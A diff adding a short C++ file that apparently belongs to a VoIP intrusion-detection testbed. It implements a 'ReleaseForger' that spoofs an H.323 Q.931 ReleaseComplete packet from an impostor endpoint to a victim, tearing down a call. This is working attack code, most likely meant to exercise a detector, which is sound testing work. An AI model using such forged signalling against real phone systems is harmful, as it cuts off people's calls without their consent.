@@ -1,0 +1,19 @@
+#include "h323/attack.h"
+
+#include "pkt/packet.h"
+
+namespace scidive::h323 {
+
+void ReleaseForger::attack(const std::string& call_id, uint16_t call_reference,
+                           pkt::Endpoint victim_signal, pkt::Endpoint impostor_signal) {
+  Q931Message release;
+  release.type = Q931MessageType::kReleaseComplete;
+  release.call_id = call_id;
+  release.call_reference = call_reference;
+  release.cause = Q931Cause::kNormalClearing;
+  auto packet = pkt::make_udp_packet(impostor_signal, victim_signal, release.serialize());
+  host_.send_raw(std::move(packet));
+  ++releases_sent_;
+}
+
+}  // namespace scidive::h323
